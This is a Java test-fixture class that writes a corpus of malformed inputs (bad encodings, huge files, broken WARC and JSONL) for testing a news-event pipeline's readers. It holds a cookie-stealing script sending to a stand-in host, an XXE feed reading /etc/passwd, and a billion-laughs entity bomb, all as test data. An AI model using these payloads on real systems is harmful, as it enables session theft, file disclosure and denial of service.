package org.dyad.testkit;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import javax.imageio.ImageIO;

/**
 * Input that nobody cleaned, written into a directory for tests of the readers and the whole
 * pipeline: binary files named {@code .txt}, bad and unusual encodings, empty, huge and run-on
 * documents, pathological HTML, broken WARC, hostile feeds, broken JSONL, another language, and
 * markup inside article text, next to good articles that must still be coded. Large files are
 * generated rather than kept in the repository.
 *
 * <p>Thread safety: stateless.
 */
public final class HostileCorpus {
  /** What reading or coding one input must end in. */
  public enum Outcome {
    /** coded, with at least one event */
    CODED,
    /** coded or not, the document's fate does not matter, only that the batch goes on */
    CODED_ANY,
    SKIPPED,
    FAILED
  }

  /** Where an input fails or is skipped: when it is read, or in the pipeline. */
  public enum Stage {
    READER,
    PIPELINE
  }

  /**
   * One input's expected end.
   *
   * @param origin the input's origin relative to the corpus directory ({@code broken.jsonl:3},
   *     {@code truncated.warc#2})
   * @param outcome what it ends as
   * @param stage which stage decides a failure or skip (PIPELINE for coded inputs)
   * @param reason a part of the recorded reason; empty for coded inputs
   */
  public record Expected(String origin, Outcome outcome, Stage stage, String reason) {}

  /** The publication date to give inputs that have none. */
  public static final String DATE = "2024-06-20";

  /** Size of the huge article: over the readers' default limit. */
  public static final int HUGE_BYTES = 50 * 1024 * 1024;

  /** Tokens of the run-on sentence. */
  public static final int RUN_ON_TOKENS = 100_000;

  static final String GOOD =
      "Russian President Vladimir Putin met Chinese President Xi Jinping in Beijing on Tuesday."
          + " The two leaders signed an agreement on energy cooperation.\n\n"
          + "Japan condemned North Korea for firing a ballistic missile over the Sea of Japan.";

  private static final String[] COUNTRIES = {
    "Russia", "China", "Japan", "Germany", "France", "Iran", "Turkey", "India", "Brazil", "Egypt",
    "Poland", "Canada", "Mexico", "Kenya", "Spain"
  };

  private static final String[] ACTIONS = {
    "%s condemned %s for its missile tests on %s.",
    "%s signed a trade agreement with %s on %s.",
    "%s accused %s of spying on its diplomats on %s.",
    "%s praised %s for its help after the floods on %s.",
    "%s expelled two diplomats from %s on %s.",
    "%s threatened %s with sanctions on %s."
  };

  private static final String[] DAYS = {"Monday", "Tuesday", "Wednesday", "Thursday", "Friday"};

  private HostileCorpus() {}

  /**
   * A short English news article, different for each {@code n} (so that no two good inputs are
   * near-duplicates of each other), every sentence of which codes as an event.
   */
  public static String good(int n) {
    // Choices drawn from a generator seeded by n: neighbouring n share no pattern, and two
    // articles share all three sentences with odds of about one in 10^11.
    // (The seed is itself mixed: generators seeded a fixed step apart give shifted sequences.)
    java.util.SplittableRandom random =
        new java.util.SplittableRandom(new java.util.SplittableRandom(n).nextLong());
    StringBuilder sb = new StringBuilder();
    for (int s = 0; s < 3; s++) {
      String source = COUNTRIES[random.nextInt(COUNTRIES.length)];
      String target = source;
      while (target.equals(source)) {
        target = COUNTRIES[random.nextInt(COUNTRIES.length)];
      }
      if (s > 0) {
        sb.append(s == 1 ? " " : "\n\n");
      }
      sb.append(
          String.format(
              java.util.Locale.ROOT,
              ACTIONS[random.nextInt(ACTIONS.length)],
              source,
              target,
              DAYS[random.nextInt(DAYS.length)]));
    }
    return sb.toString();
  }

  /**
   * An input's origin as {@link Expected#origin} gives it: the file relative to the corpus
   * directory, with its line or record number ({@code broken.jsonl:3}, {@code garbled.warc#2}).
   */
  public static String relativeOrigin(Path dir, String origin) {
    String suffix = origin.replaceFirst("^.*?([:#]\\d+)?$", "$1");
    String file = origin.substring(0, origin.length() - suffix.length());
    return dir.relativize(Path.of(file)) + suffix;
  }

  /** Writes the corpus into {@code dir} and returns what each input must end in. */
  public static List<Expected> write(Path dir) {
    try {
      return writeAll(dir);
    } catch (IOException e) {
      throw new UncheckedIOException("cannot write the hostile corpus into " + dir, e);
    }
  }

  private static List<Expected> writeAll(Path dir) throws IOException {
    List<Expected> out = new ArrayList<>();
    Files.writeString(dir.resolve("good.txt"), good(0));
    out.add(coded("good.txt"));

    Files.write(dir.resolve("image.txt"), png());
    out.add(failed("image.txt", Stage.READER, "binary data"));
    byte[] noise = new byte[64 * 1024];
    new Random(8).nextBytes(noise);
    Files.write(dir.resolve("random.txt"), noise);
    out.add(failed("random.txt", Stage.READER, "binary data"));
    Files.write(
        dir.resolve("latin1.txt"),
        ("Le pr\u00e9sident fran\u00e7ais a rencontr\u00e9 le chancelier. " + GOOD)
            .getBytes(StandardCharsets.ISO_8859_1));
    out.add(failed("latin1.txt", Stage.READER, "not valid UTF-8"));
    Files.write(dir.resolve("utf16-bom.txt"), withBom(good(1), StandardCharsets.UTF_16LE));
    out.add(coded("utf16-bom.txt"));
    Files.write(dir.resolve("utf16-nobom.txt"), good(2).getBytes(StandardCharsets.UTF_16BE));
    out.add(coded("utf16-nobom.txt"));

    Files.writeString(dir.resolve("empty.txt"), "");
    out.add(new Expected("empty.txt", Outcome.SKIPPED, Stage.PIPELINE, "empty text"));
    Files.writeString(dir.resolve("whitespace.txt"), " \n\t\n   \r\n ");
    out.add(new Expected("whitespace.txt", Outcome.SKIPPED, Stage.PIPELINE, "empty text"));
    writeRepeated(dir.resolve("huge.txt"), GOOD + "\n\n", HUGE_BYTES);
    out.add(failed("huge.txt", Stage.READER, "exceeds the limit"));
    Files.writeString(dir.resolve("run-on.txt"), runOn(RUN_ON_TOKENS));
    out.add(new Expected("run-on.txt", Outcome.CODED_ANY, Stage.PIPELINE, ""));
    Files.writeString(dir.resolve("french.txt"), FRENCH);
    out.add(new Expected("french.txt", Outcome.SKIPPED, Stage.PIPELINE, "does not look English"));
    Files.writeString(dir.resolve("script.txt"), SCRIPTED);
    out.add(coded("script.txt"));

    Files.writeString(dir.resolve("nested.html"), nestedHtml(50_000, good(5)));
    out.add(coded("nested.html"));
    Files.writeString(dir.resolve("unclosed.html"), unclosedHtml(good(6)));
    out.add(coded("unclosed.html"));

    byte[] record1 = warcResponse("https://news.example/one", page(good(3)));
    byte[] record2 = warcResponse("https://news.example/two", page(SECOND));
    byte[] truncated = new byte[record1.length + record2.length / 2];
    System.arraycopy(record1, 0, truncated, 0, record1.length);
    System.arraycopy(record2, 0, truncated, record1.length, record2.length / 2);
    Files.write(dir.resolve("truncated.warc"), truncated);
    out.add(coded("truncated.warc#1"));
    out.add(failed("truncated.warc#2", Stage.READER, "WARC"));
    byte[] other = warcResponse("https://news.example/three", page(good(4)));
    byte[] garbled = new byte[other.length + 512];
    System.arraycopy(other, 0, garbled, 0, other.length);
    new Random(9).nextBytes(noise);
    System.arraycopy(noise, 0, garbled, other.length, 512);
    Files.write(dir.resolve("garbled.warc"), garbled);
    out.add(coded("garbled.warc#1"));
    out.add(failed("garbled.warc#2", Stage.READER, "WARC record unreadable"));

    Files.writeString(dir.resolve("xxe.rss"), XXE);
    out.add(failed("xxe.rss", Stage.READER, "not a readable RSS/Atom feed"));
    Files.writeString(dir.resolve("billion-laughs.rss"), BILLION_LAUGHS);
    out.add(failed("billion-laughs.rss", Stage.READER, "not a readable RSS/Atom feed"));

    Files.writeString(dir.resolve("broken.jsonl"), String.join("\n", BROKEN_JSONL) + "\n");
    out.add(coded("broken.jsonl:1"));
    out.add(failed("broken.jsonl:2", Stage.READER, "invalid JSON"));
    out.add(failed("broken.jsonl:3", Stage.READER, "field 'text' is not a string"));
    out.add(failed("broken.jsonl:4", Stage.READER, "missing field 'id'"));
    out.add(failed("broken.jsonl:5", Stage.READER, "expected a JSON object"));
    out.add(failed("broken.jsonl:6", Stage.READER, "not YYYY-MM-DD"));
    out.add(failed("broken.jsonl:7", Stage.READER, "field 'title' is not a string"));
    out.add(new Expected("broken.jsonl:8", Outcome.SKIPPED, Stage.PIPELINE, "language 'de'"));
    out.add(coded("broken.jsonl:9"));

    String longText = (GOOD + "\n\n").repeat(1_200_000 / GOOD.length() + 1);
    Files.writeString(
        dir.resolve("long.jsonl"),
        "{\"id\": \"long\", \"date\": \"" + DATE + "\", \"text\": \"" + json(longText) + "\"}\n");
    out.add(new Expected("long.jsonl:1", Outcome.SKIPPED, Stage.PIPELINE, "exceeds the limit"));
    return out;
  }

  private static Expected coded(String origin) {
    return new Expected(origin, Outcome.CODED, Stage.PIPELINE, "");
  }

  private static Expected failed(String origin, Stage stage, String reason) {
    return new Expected(origin, Outcome.FAILED, stage, reason);
  }

  private static byte[] png() throws IOException {
    BufferedImage image = new BufferedImage(32, 32, BufferedImage.TYPE_INT_RGB);
    for (int x = 0; x < 32; x++) {
      image.setRGB(x, x, 0xFF0000);
    }
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    ImageIO.write(image, "png", bytes);
    return bytes.toByteArray();
  }

  private static byte[] withBom(String text, Charset charset) {
    byte[] body = text.getBytes(charset);
    byte[] out = new byte[body.length + 2];
    out[0] = (byte) 0xFF;
    out[1] = (byte) 0xFE;
    System.arraycopy(body, 0, out, 2, body.length);
    return out;
  }

  private static void writeRepeated(Path file, String text, int bytes) throws IOException {
    byte[] chunk = text.getBytes(StandardCharsets.UTF_8);
    try (OutputStream out = Files.newOutputStream(file)) {
      for (int written = 0; written < bytes; written += chunk.length) {
        out.write(chunk);
      }
    }
  }

  /** Lower-case words without punctuation: one sentence of {@code tokens} tokens. */
  static String runOn(int tokens) {
    String[] words = {
      "the",
      "talks",
      "on",
      "trade",
      "and",
      "security",
      "in",
      "the",
      "region",
      "went",
      "on",
      "for",
      "hours",
      "while",
      "officials",
      "from",
      "both",
      "sides",
      "waited",
      "outside"
    };
    StringBuilder sb = new StringBuilder("Officials from Russia and China said");
    for (int i = 0; i < tokens - 6; i++) {
      sb.append(' ').append(words[i % words.length]);
    }
    return sb.toString();
  }

  static String nestedHtml(int depth, String text) {
    StringBuilder sb = new StringBuilder("<html lang=\"en\"><head><title>Deep</title>");
    sb.append("<meta property=\"article:published_time\" content=\"" + DATE + "\"></head><body>");
    sb.append("<div>".repeat(depth));
    sb.append("<p>").append(text.replace("\n\n", "</p><p>")).append("</p>");
    sb.append("<li><blockquote><p>".repeat(depth / 10));
    sb.append("</div>".repeat(depth / 2)); // and the rest never closed
    return sb.toString();
  }

  /** A news page of {@code text}, without a date of its own. */
  public static String page(String text) {
    return "<html lang=\"en\"><head><title>News</title></head><body><article><p>"
        + text.replace("\n\n", "</p><p>")
        + "</p></article></body></html>";
  }

  /** A WARC response record of an HTML page, dated {@link #DATE}. */
  public static byte[] warcResponse(String uri, String html) {
    byte[] body = html.getBytes(StandardCharsets.UTF_8);
    String http =
        "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: "
            + body.length
            + "\r\n\r\n";
    byte[] block = concat(http.getBytes(StandardCharsets.US_ASCII), body);
    String header =
        "WARC/1.0\r\n"
            + "WARC-Type: response\r\n"
            + "WARC-Record-ID: <urn:uuid:"
            + java.util.UUID.nameUUIDFromBytes(uri.getBytes(StandardCharsets.UTF_8))
            + ">\r\n"
            + "WARC-Date: "
            + DATE
            + "T08:00:00Z\r\n"
            + "WARC-Target-URI: "
            + uri
            + "\r\n"
            + "Content-Type: application/http; msgtype=response\r\n"
            + "Content-Length: "
            + block.length
            + "\r\n\r\n";
    return concat(
        concat(header.getBytes(StandardCharsets.US_ASCII), block),
        "\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] out = new byte[a.length + b.length];
    System.arraycopy(a, 0, out, 0, a.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }

  private static String json(String text) {
    return text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n");
  }

  private static final String SECOND =
      "Germany accused Russia of a cyber attack on its parliament on Monday.";

  private static final String FRENCH =
      "Le président de la République a reçu mardi le premier ministre japonais à l'Élysée pour"
          + " un entretien sur la sécurité en Asie et les relations commerciales entre les deux"
          + " pays, a indiqué la présidence dans un communiqué publié dans la soirée.";

  private static final String SCRIPTED =
      "<p>Russian President Vladimir Putin met Chinese President Xi Jinping in Beijing.</p>"
          + "<script>document.location='http://evil.example/?c='+document.cookie;"
          + " alert('Germany attacked France')</script>"
          + "<style>p { color: red }</style>\n\n"
          + "<b>Japan</b> condemned <i>North Korea</i> for firing a ballistic missile.";

  private static String unclosedHtml(String text) {
    return "<html><head><meta name=\"date\" content=\""
        + DATE
        + "\"><title>Unclosed</title><body><div><p>"
        + text.replace("\n\n", "<p>")
        + "<table><tr><td><b><i><u><span><p>Germany accused Russia of a cyber attack"
        + "<div><a href='x'><em>";
  }

  private static final String XXE =
      "<?xml version=\"1.0\"?>\n"
          + "<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
          + "<rss version=\"2.0\"><channel><title>Feed</title><item><title>&xxe;</title>"
          + "<pubDate>Thu, 20 Jun 2024 08:00:00 GMT</pubDate><description>&xxe; "
          + "Japan condemned North Korea.</description></item></channel></rss>\n";

  private static final String BILLION_LAUGHS;

  static {
    StringBuilder sb = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n");
    sb.append(" <!ENTITY lol0 \"lol\">\n");
    for (int i = 1; i <= 9; i++) {
      sb.append(" <!ENTITY lol").append(i).append(" \"");
      sb.append(("&lol" + (i - 1) + ";").repeat(10)).append("\">\n");
    }
    sb.append("]>\n<rss version=\"2.0\"><channel><title>&lol9;</title><item><title>x</title>");
    sb.append("<pubDate>Thu, 20 Jun 2024 08:00:00 GMT</pubDate><description>&lol9;");
    sb.append("</description></item></channel></rss>\n");
    BILLION_LAUGHS = sb.toString();
  }

  private static final List<String> BROKEN_JSONL =
      List.of(
          "{\"id\": \"j1\", \"date\": \"" + DATE + "\", \"text\": \"" + json(good(7)) + "\"}",
          "{\"id\": \"j2\", \"date\": \"" + DATE + "\", \"text\": \"Japan condemned",
          "{\"id\": \"j3\", \"date\": \"" + DATE + "\", \"text\": 42}",
          "{\"date\": \"" + DATE + "\", \"text\": \"" + json(SECOND) + "\"}",
          "[1, 2, 3]",
          "{\"id\": \"j6\", \"date\": \"yesterday\", \"text\": \"" + json(SECOND) + "\"}",
          "{\"id\": \"j7\", \"date\": \"" + DATE + "\", \"title\": {\"a\": 1}, \"text\": \"x\"}",
          "{\"id\": \"j8\", \"date\": \""
              + DATE
              + "\", \"language\": \"de\", \"text\": \"Die Regierung hat am Dienstag"
              + " beschlossen, die Sanktionen zu verl\u00e4ngern.\"}",
          "{\"id\": \"j9\", \"date\": \"" + DATE + "\", \"text\": \"" + json(good(8)) + "\"}");
}
